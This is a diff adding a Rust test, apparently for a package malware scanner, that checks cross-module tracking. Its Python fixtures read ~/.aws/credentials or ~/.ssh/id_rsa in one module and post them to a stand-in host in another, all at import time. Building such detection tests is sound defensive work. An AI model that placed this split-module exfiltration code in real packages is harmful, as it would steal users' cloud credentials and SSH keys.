@@ -131,6 +131,32 @@ fn data_files_that_are_decoded_and_run_are_read() {
     }
 }
 
+#[test]
+fn what_one_module_gathers_and_another_sends_is_followed() {
+    let kept = ("series/kept.py", "import queue\n\nFOUND = []\nQUEUE = queue.Queue()\n");
+    let init = ("series/__init__.py", "from . import read, send\nread.begin()\nsend.begin()\n");
+    for (read, send) in [
+        (
+            "import os\nfrom . import kept\n\n\ndef begin():\n    kept.FOUND.append(open(os.path.expanduser('~/.aws/credentials')).read())\n",
+            "import requests\nfrom . import kept\n\n\ndef begin():\n    requests.post('http://x.example.invalid/c', json=kept.FOUND)\n",
+        ),
+        (
+            "import os\nfrom .kept import QUEUE\n\n\ndef begin():\n    QUEUE.put(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
+            "import urllib.request\nfrom .kept import QUEUE\n\n\ndef begin():\n    urllib.request.urlopen('http://x.example.invalid/c', data=QUEUE.get().encode())\n",
+        ),
+    ] {
+        let report = inspected(&[init, kept, ("series/read.py", read), ("series/send.py", send)]);
+        let found: Vec<&str> = report.findings.iter().map(|finding| finding.rule.as_str()).collect();
+        assert!(report.verdict >= Verdict::Suspicious && found.contains(&"secret-exfiltration"), "{found:?}");
+    }
+    // Rows that are gathered and sent are no secret.
+    let read = "from . import kept\n\n\ndef begin():\n    kept.FOUND.append(open('rows.csv').read())\n";
+    let send = "import requests\nfrom . import kept\n\n\ndef begin():\n    requests.post('https://rows.example.org/c', json=kept.FOUND)\n";
+    let init = ("series/__init__.py", "from .read import begin as read\nfrom .send import begin as send\n");
+    let report = inspected(&[init, kept, ("series/read.py", read), ("series/send.py", send)]);
+    assert_eq!(report.verdict, Verdict::Clean, "{:#?}", report.findings);
+}
+
 /// Modules that decode for others, and data that is decoded, are ordinary.
 #[test]
 fn honest_packages_that_decode_are_clean() {
